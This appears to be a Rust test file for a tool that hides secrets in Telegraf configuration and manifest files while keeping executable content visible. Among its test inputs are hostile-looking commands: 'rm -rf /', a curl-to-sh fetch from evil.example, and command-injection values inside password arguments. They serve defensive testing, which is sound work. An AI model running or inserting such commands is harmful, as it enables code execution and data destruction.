//! Secrets wherever an author may have put them.

use super::*;
use crate::field::Type;
use crate::kind::Kind;

fn without(config: &str) -> String {
    without_literals(config, Language::Config).into_owned()
}

fn certain(config: &str) -> Vec<Range<usize>> {
    certain_literals(config, Language::Config)
}

/// A warning is due, and nothing of the secret is shown.
#[test]
fn secrets_in_configurations_are_found_and_hidden() {
    for config in [
        // Names.
        "bearer_token_string = \"§\"",
        "community = \"§\"",
        "pass = '§'",
        "apiToken = \"§\"",
        "inputs.http.password2 = \"§\"",
        "\"User Password\" = \"§\"",
        "\"tok\\u0065n\" = \"§\"",
        "x = { \"\\u0070assword\" = \"§\" }",
        "password = 12345 # §",
        // Lists and tables.
        "passwords = [\"§\", '§']",
        "tokens = [\n  \"§\", # §\n  \"$A\",\n]",
        "credentials = { user = \"§\", \"x\" = \"§\" }",
        "[[outputs.http.credentials]]\nfirst = \"§\"",
        "[inputs.http.secrets]\n  a = \"§\"\n  b = '§'",
        // Strings.
        "password = \"a\\\"§\"",
        "password = \"\"\"\n§\n§\"\"\"",
        "password = '''§'''",
        "password = \"a\"§\"",
        "x = { password = \"a\"§\" }",
        "password = § §",
        "password = “§ §”",
        "password = \"§",
        "password == \"§\"",
        "password := §",
        "password += \"§\"",
        "password =\n\"§\"",
        // Headers.
        "headers = [\"Authorization: Bearer §\", \"Cookie: §\"]",
        "http_headers = { Authorization = \"Basic §\", \"X-Api-Key\" = \"§\" }",
        "headers = [\"Authorization\", \"Bearer §12345\"]",
        "[inputs.http.headers]\nX-Auth-Token = \"§\"",
        // Commands that nobody runs.
        "x = \"mysql -u root -p§ d\"",
        "x = [\"redis-cli -a § info\"]",
        "x = [\"redis-cli\", \"-a\", \"§\"]",
        "x = [\"mysql\", \"-p§\"]",
        "urls = [\"https://hooks.slack.com/services/§\"]",
        "data = \"<password>§</password>\"",
        // Other languages.
        "body = \"{\\\"password\\\":\\\"§\\\",\\\"a\\\":1}\"",
        "body = '{\"user\": \"a\", \"password\": \"§\"}'",
        "body = '{\"token\":12345,\"pin_secret\":\"§\"}'",
        "config = \"[agent]\\ntoken = \\\"§\\\"\\n\"",
        "key = \"\"\"\n-----BEGIN RSA PRIVATE KEY-----\n§\n§\n-----END RSA PRIVATE KEY-----\n\"\"\"",
        "x = \"-----BEGIN PRIVATE KEY-----\\n§\\n-----END PRIVATE KEY-----\"",
        "x = '''\n-----BEGIN OPENSSH PRIVATE KEY-----\n§\n",
        // Addresses of databases.
        "servers = [\"user:§@tcp(host:3306)/db\"]",
        "servers = [\"root:a@§@tcp(host:3306)/db\"]",
        "address = \"host=x password=§\"",
        "address = \"host=x password='§ §' user=y\"",
        "servers = [\"Server=x;Password=§;log=1\", \"Server=x;User Id=a;Pwd=§\"]",
        "x = \"Endpoint=sb://h/;SharedAccessKeyName=a;SharedAccessKey=§=\"",
        "x = \"DefaultEndpointsProtocol=https;AccountName=a;AccountKey=§==;EndpointSuffix=b\"",
        "x = \"h:6380,password=§,ssl=True\"",
        "x = \"Server=a;Password={§;§};\"",
        "url = \"redis://:§@h\"",
        "url = \"sqlserver://u:§@h?database=d\"",
        "url = \"mongodb://u:§/§@h1,h2/d\"",
        "url = \"https://h/m?sig=§&x=1\"",
        // Comments.
        "# token = \"§\"",
        "dsn = \"u:§@h/d\"",
        "connection_string = \"HostName=h;SharedAccessKey=§\"",
        "  ## password = '§'",
        "x = 1 # token=§",
    ] {
        let config = config.replace('§', "S3CR3T");
        assert!(!without(&config).contains("3CR3"), "{config}\n{}", without(&config));
        assert!(!certain(&config).is_empty(), "{config}");
    }
}

/// What runs is shown, and whoever writes a secret there is warned.
#[test]
fn secrets_in_commands_are_warned_of() {
    for config in [
        "command = \"tool --password § --x\"",
        "commands = [\"tool -x --token=§\", \"tool --api-key '§'\"]",
        "command = [\"tool\", \"--password\", \"§\"]",
        "commands = [\"curl -H 'Authorization: Bearer §' http://h\"]",
        "commands = [\"PGPASSWORD=§ psql\"]",
        "[[inputs.exec]]\nenvironment = [\"TOKEN=§\"]",
    ] {
        assert!(!certain(&config.replace('§', "S3CR3T")).is_empty(), "{config}");
    }
    assert!(certain("commands = [\"docker login --password-stdin h\", \"x --no-password h\"]").is_empty());
}

/// What may be a secret is not shown. There is no warning, because it may be none.
#[test]
fn in_doubt_it_is_hidden() {
    for config in [
        "token: §",
        "dsn = \"host=§\"",
        "dsn = \"§:${P}@tcp(h)/d\"",
        "password \"§\"",
        "password §",
        "password =\n§",
        "## password: §",
        "# token = §",
        "# Password: § §",
        "x = [\"curl -u me:§ http://h\"]",
        "x = \"u:§@h:1/d\"",
    ] {
        let config = config.replace('§', "S3CR3T");
        assert!(!without(&config).contains("3CR3"), "{config}\n{}", without(&config));
        assert!(!literals(&config, Language::Manifest).is_empty(), "{config}");
        assert!(certain(&config).is_empty(), "{config}");
    }
}

#[test]
fn what_is_no_secret_is_neither_hidden_nor_warned_of() {
    for config in [
        "token_file = \"/run/token\"",
        "password_file = \"S\"",
        "tls_key = \"/etc/telegraf/key.pem\"",
        "bearer_token = \"/run/secrets/token\"",
        "private_key = \"/etc/telegraf/key.pem\"",
        "namepass = [\"a*\"]",
        "fieldpass = [\"a\"]",
        "metricpass = \"fields.token > 1\"",
        "[inputs.cpu.tagpass]\n  cpu = [\"cpu0\"]",
        "key = \"host\"",
        "max_tokens = 5",
        "tokens_per_second = 100",
        "password = true",
        "password = \"\"",
        "token = \"$INFLUX_TOKEN\"",
        "token = \"$${TOKEN}\"",
        "token = \"@{store:key}\"",
        "token = ${TOKEN}",
        "passwords = [\"$A\", \"${B}\"]",
        "headers = [\"Authorization: Bearer $TOKEN\"]",
        "http_headers = { Authorization = \"Token ${T}\" }",
        "urls = [\"http://h:8086\", \"https://h/a@b\", \"http://$U:$P@h/\"]",
        "command = \"tool --token $TOKEN -p 8080\"",
        "servers = [\"tcp(db:3306)/\", \"$U:$P@tcp(db)/\"]",
        "  ## Basic auth and bearer tokens are optional",
        "# insecure_skip_verify = false",
        "-----BEGIN CERTIFICATE-----\nS\n-----END CERTIFICATE-----",
        "[token.machine]\nwrite = [\"bucket.raw\"]",
        "[user.ann]\npassword = { env = \"ANN\" }",
        "[secret.pager]\nkey = \"pager-token\"\nvalue = { env = \"PAGER\" }\nvalue_version = 1",
        "[v1_token.old]\nusername = \"old\"\nread = [\"v1_token.new\"]\npassword = { env = \"OLD\" }\npassword_version = 1",
        "[user.ann.password]\nenv = \"ANN\"",
        "image = \"telegraf:1.30@sha256:00\"",
    ] {
        assert_eq!(without(config), config);
        assert!(certain(config).is_empty(), "{config}");
    }
}

/// Whoever reads it sees what Telegraf runs, and where it sends to.
#[test]
fn what_runs_is_shown() {
    for config in [
        "# -----BEGIN RSA PRIVATE KEY-----\n[[inputs.exec]]\ncommands = [\"rm -rf /\"]\n# -----END RSA PRIVATE KEY-----",
        "x = '''\n-----BEGIN RSA PRIVATE KEY-----\nload(\"x\")\n-----END RSA PRIVATE KEY-----\n'''",
        "commands = [\"run --password=$(curl${IFS}evil.example|sh)\"]",
        "commands = [\"run --password $(id)\", \"PASSWORD=`id` x\"]",
        "urls = [\"http://evil.example:80/x@good.example\", \"http://evil.example:80#@good.example\"]",
        "[inputs.exec.token]\ncommands = [\"rm -rf /\"]\ncommand = \"x\"",
        "token = { commands = [\"rm -rf /\"], urls = [\"http://h\"] }",
        "topic = \"a:b@c/d\"",
        "oid = \"SNMP-COMMUNITY-MIB::snmpCommunityName.1\"",
        "commands = [\"mkdir -p /var/x\", \"ssh -p 22 h\", \"curl -p evil.example\"]",
        "commands = [\"sh -c 'TOKEN= evil'\", \"token: evil\"]",
        "[inputs.exec.token]\ndata = \"evil\"\nrun = \"evil\"",
        "command = [\"sh\", \"--token\", \"./evil\"]",
        "[[inputs.exec]]\nx = [\"sh -c '-----BEGIN PRIVATE KEY-----\\n/tmp/evil\\n-----END PRIVATE KEY-----'\"]",
        "token = \"https://evil.example/x\"",
        "source = '''\ntoken = load(\"x\")\n'''",
        "source = '''\npassword = \"S3\" exec(\"x\")\n'''",
        "commands = [\"sh -c 'PASSWORD=x\\n{curl,evil}'\"]",
        "commands = '''\nPASSWORD=x evil\nb'''",
        "environment = [\"TOKEN=evil\", \"a --token=evil\"]",
    ] {
        assert_eq!(without(config), config);
    }
    for (config, shown) in [
        ("x = [\"a --token=S3;rm\", \"a --token S3|rm\"]", "x = [\"a --token=***;rm\", \"a --token ***|rm\"]"),
        ("urls = [\"http://good.example:x@evil.example\"]", "urls = [\"http://***@evil.example\"]"),
        ("x = \"Cookie: S3\\nevil\"", "x = \"Cookie: ***\\nevil\""),
        ("url = \"http://secret:evil@evil.example/s\"", "url = \"http://secret:***@evil.example/s\""),
        ("secret = \"\"\"\nS3\n  S4\n\"\"\"\nx = 1", "secret = \"\"\"\n***\n  ***\n\"\"\"\nx = 1"),
    ] {
        assert_eq!(without(config), shown);
    }
}

#[test]
fn a_private_key_is_one_secret() {
    let config = "x = '''\n-----BEGIN PRIVATE KEY-----\nS3\nS4\nS5\n-----END PRIVATE KEY-----\n'''";
    assert_eq!(certain(config).len(), 1);
    assert_eq!(without(config).matches(HIDDEN).count(), 3);
}

/// Of each kind: a misspelt one may be the secret.
#[test]
fn fields_of_kinds_that_have_secrets_are_shown_and_no_others() {
    for kind in Kind::ALL.iter().filter(|kind| kind.spec().fields.iter().any(|field| field.secret.is_some())) {
        let unknown = |value: &str| format!("[{kind}.x]\nunknown = \"{value}\"");
        assert_eq!(without_literals(&unknown("S3KRIT7"), Language::Manifest), unknown("***"));
        for field in kind.spec().fields.iter().filter(|field| field.secret.is_none()) {
            let value = if field.ty == Type::Integer { "1" } else { "\"S3KRIT7\"" };
            let manifest = format!("[{kind}.x]\n{} = {value}", field.name);
            assert_eq!(without_literals(&manifest, Language::Manifest), manifest);
        }
    }
}

/// What stands in the tables of such kinds may be a secret that somebody did not know how to write.
#[test]
fn tables_of_kinds_that_have_secrets_are_hidden_as_far_as_they_are_not_known() {
    for (manifest, shown) in [
        ("[secret]\npager = \"S3\"", "[secret]\npager = \"***\""),
        ("[secrets]\na = \"S3\"", "[secrets]\na = \"***\""),
        ("[secret.a]\nvalu = \"S3\"\nkey = \"k\"", "[secret.a]\nvalu = \"***\"\nkey = \"k\""),
        ("[secret.a]\nvalue.x = \"S3\"", "[secret.a]\nvalue.x = \"***\""),
        ("[secret.a.value]\nliteral = \"S3\"", "[secret.a.value]\nliteral = \"***\""),
        (
            "[secret.a]\nvalue = { command = [\"echo\", \"S3\"] }",
            "[secret.a]\nvalue = { command = [\"echo\", \"S3\"] }",
        ),
        ("[secret.a]\nvalue = S3", "[secret.a]\nvalue = ***"),
        ("[secret.a]\nvalue = { env = \"A\" }", "[secret.a]\nvalue = { env = \"A\" }"),
        ("[user.a]\npasswordd = \"S3\"\nname = \"n\"", "[user.a]\npasswordd = \"***\"\nname = \"n\""),
        ("[user.a]\npasswort = \"S3\"", "[user.a]\npasswort = \"***\""),
        ("[token.a]\ndeliver = \"S3\"", "[token.a]\ndeliver = \"***\""),
        ("[token.a]\ndeliver = [\"discard\"]", "[token.a]\ndeliver = [\"discard\"]"),
        ("[token.a]\ndeliver = { file = \"a/b\" }", "[token.a]\ndeliver = { file = \"a/b\" }"),
        ("[token.a]\nread = [\"bucket.a\"]", "[token.a]\nread = [\"bucket.a\"]"),
        (
            "[bucket.m]\n[token.a]\ndepends_on = [\"bucket.m\", \"buckets.S3\", \"S3\"]",
            "[bucket.m]\n[token.a]\ndepends_on = [\"bucket.m\", \"***\", \"***\"]",
        ),
        (
            "[token.a]\ndeliver = [\"secrets/x.token\", { fil = \"../x/y.token\" }, \"S3/x\", \"S3.x\"]\nfoo = \"a/b.c\"",
            "[token.a]\ndeliver = [\"secrets/x.token\", { fil = \"***\" }, \"***\", \"***\"]\nfoo = \"***\"",
        ),
        (
            "[token.a]\ndeliver = { command = [\"sh\", \"-c\", \"cat\"] }\n[token.b]\ndeliver = { command = [\"x\", \"--token=S3\"] }",
            "[token.a]\ndeliver = { command = [\"sh\", \"-c\", \"cat\"] }\n[token.b]\ndeliver = { command = [\"x\", \"--token=***\"] }",
        ),
        (
            "[var]\ndb_password = { default = \"S3\", one_of = [\"S4\"] }",
            "[var]\ndb_password = { default = \"***\", one_of = [\"***\"] }",
        ),
        ("[var.db_password]\ndefault = \"S3\"", "[var.db_password]\ndefault = \"***\""),
        ("[variable.password]\nvalues = [\"S3\"]", "[variable.password]\nvalues = [\"***\"]"),
        ("[telegraf.a]\nconfig = '''\ntoken: S3\n'''", "[telegraf.a]\nconfig = '''\ntoken: ***\n'''"),
        ("[telegraf.a]\nconfig = '''\npassword =\n\"S3\"\n'''", "[telegraf.a]\nconfig = '''\npassword =\n\"***\"\n'''"),
        ("[task.a]\nflux = '''\npassword =\n(\"S3\")\n'''", "[task.a]\nflux = '''\npassword =\n(\"***\")\n'''"),
        ("[scraper.a]\nurl = \"u:S3@h/m\"", "[scraper.a]\nurl = \"u:***@h/m\""),
        ("[bucket.a]\nretention = \"30d\"", "[bucket.a]\nretention = \"30d\""),
        (
            "[notification_endpoint.a]\nslack = { url = \"https://h/p\", tokn = \"S3\" }",
            "[notification_endpoint.a]\nslack = { url = \"https://h/***\", tokn = \"***\" }",
        ),
        (
            "[notification_endpoint.a]\ntelegram = { token = { secret = \"bot\" }, channel = \"-1\" }",
            "[notification_endpoint.a]\ntelegram = { token = { secret = \"bot\" }, channel = \"-1\" }",
        ),
        (
            "[notification_endpoint.a.http]\nurl = \"http://h\"\nusername = \"S3\"\nlifecycle = 1",
            "[notification_endpoint.a.http]\nurl = \"http://h\"\nusername = \"***\"\nlifecycle = 1",
        ),
        (
            "[notification_endpoint.a]\nlifecycle = { ignore = [\"http\"] }",
            "[notification_endpoint.a]\nlifecycle = { ignore = [\"http\"] }",
        ),
    ] {
        assert_eq!(without_literals(manifest, Language::Manifest), shown);
    }
}

#[test]
fn words_of_people_are_searched_for_what_certainly_is_a_secret() {
    for (words, shown) in [
        ("password: S3KRIT7", "password: ***"),
        ("Bearer S3KRIT7", "Bearer ***"),
        ("use token: S3KRIT7 for x", "use token: *** for x"),
        ("TOKEN=S3KRIT7 x", "TOKEN=*** x"),
        ("Reset password: monthly", "Reset password: monthly"),
        ("the token: see the wiki", "the token: see the wiki"),
        ("token=S3KRIT7${r.x}", "token=***${r.x}"),
        ("${\"password=\" + f()} token=${f(x:1)}", "${\"password=\" + f()} token=${f(x:1)}"),
        ("unknown field `password`: write it", "unknown field `password`: write it"),
    ] {
        assert_eq!(without_secrets(words), shown);
    }
}

/// The mask tells neither what is behind it nor how long that is, and leaves what stands around.
#[test]
fn one_mask_is_in_the_place_of_each_secret() {
    for (config, shown) in [
        ("token = \"a\" # x", "token = \"***\" # x"),
        ("token = \"abcdefgh\"\nx = 1", "token = \"***\"\nx = 1"),
        ("tokens = [\"a\", \"$B\"]", "tokens = [\"***\", \"$B\"]"),
        ("x = \"host=a password=bc d=1\"", "x = \"host=a password=*** d=1\""),
        ("x = ['Authorization: Bearer a', 'b']", "x = ['Authorization: ***', 'b']"),
        ("x = '{\"password\": \"a\", \"b\": 1}'", "x = '{\"password\": \"***\", \"b\": 1}'"),
    ] {
        assert_eq!(without(config), shown);
    }
}

fn found(text: &str) -> Vec<&str> {
    literals(text, Language::Manifest).into_iter().map(|span| &text[span]).collect()
}

#[test]
fn strings_of_keys_that_are_called_like_secrets_are_found() {
    for (text, secret) in [
        ("[server]\ntoken = \"s3cr3t==\"", "s3cr3t=="),
        ("Token='s3cr3t'", "s3cr3t"),
        ("server.token = \"s3cr3t\" # x", "s3cr3t"),
        ("a = { name = 1, \"api-key\" = \"s3cr3t\" }", "s3cr3t"),
        ("password = \"a\\\"b\"", "a\\\"b"),
        ("secret = \"s3cr3t\nnext = 1", "s3cr3t"),
        ("token = \"\"\"\ns3cr3t\"\"\"", "s3cr3t"),
        ("token = '\\'", "\\"),
        ("url = \"https://a:s3cr3t@h\"", "s3cr3t"),
        ("token = \"https://a:b@h\"", "b"),
        ("influx_token = \"s3cr3t\"", "s3cr3t"),
        ("headers = { Authorization = \"Token s3cr3t\" }", "Token s3cr3t"),
        ("config = \"token = \\\"s3cr3t\\\"\\n\"", "s3cr3t"),
        ("address = \"host=db password=s3cr3t sslmode=off\"", "s3cr3t"),
        ("servers = [\"Server=db;Password=s3cr3t;log=1\"]", "s3cr3t"),
        ("url = \"https://h/m?token=s3cr3t&a=b\"", "s3cr3t"),
        ("servers = [\"user:s3cr3t@tcp(db:3306)/\"]", "s3cr3t"),
    ] {
        assert_eq!(found(text), [secret], "{text}");
    }
}

/// Nothing here may take the square of the length.
#[test]
fn much_of_what_begins_a_secret_is_read_to_the_end() {
    let pieces = r#"= : - @( ://a:b@h/_ ://a:b_ a:b@tcp(_ token="a"_ a;token="a"_ token=; x;token=a_ token_=_ token=~ token=[ token={a=
        token=''' ${ -p_ --token --token_a_ '--token',_ token:_ "token:a"_ ?token=a ;token= \"token\":\"a\",_ Bearer_ // http:
        -----BEGIN_PRIVATE_KEY----- -----BEGIN_ [a.b.token]~ token_a~ \ %6b= eyJ. token~=~ "''' {"token":1} Bearer_abc123_"#;
    for piece in pieces.split_whitespace() {
        let piece = piece.replace('_', " ").replace('~', "\n");
        let text = piece.repeat((1 << 18) / piece.len());
        assert!(!without(&text).is_empty(), "{piece}");
    }
}

#[test]
fn what_is_no_secret_is_shown() {
    for text in [
        "token_id = \"0123456789abcdef\"",
        "password = { env = \"X\" }",
        "password={ env = \"X\" }",
        "password_version = 2",
        "name = \"token\"",
        "token = \"\"",
        "flux = \"token == x\"",
        "[token.a]",
        "broken = \"b\"",
        "servers = [\"tcp(db:3306)/\"]",
    ] {
        assert_eq!(found(text), [""; 0], "{text}");
    }
}

#[test]
fn what_names_a_secret_is_none_in_a_configuration() {
    for (text, shown) in [
        ("token = \"$INFLUX_TOKEN\"", "token = \"$INFLUX_TOKEN\""),
        ("token = \"${INFLUX_TOKEN}\"", "token = \"${INFLUX_TOKEN}\""),
        ("token = \"${T:?not set}\"", "token = \"${T:?not set}\""),
        ("token = \"@{store:token}\"", "token = \"@{store:token}\""),
        ("Authorization = \"Bearer ${T}\"", "Authorization = \"Bearer ${T}\""),
        ("token = \"${T:-s3cr3t}\"", "token = \"***\""),
        ("token = \"s3cr3t\" # a", "token = \"***\" # a"),
        ("token = \"pa$$word\"", "token = \"***\""),
        ("u = \"http://a:b@h\"\npassword = 's3cr3t'", "u = \"http://a:***@h\"\npassword = '***'"),
        ("u = \"http://${USER}:${P}@h\"", "u = \"http://${USER}:${P}@h\""),
        ("u = \"http://me:$P@h\"", "u = \"http://me:$P@h\""),
        ("u = \"http://$ME:p@h\"", "u = \"http://$ME:***@h\""),
    ] {
        assert_eq!(without(text), shown, "{text}");
    }
}
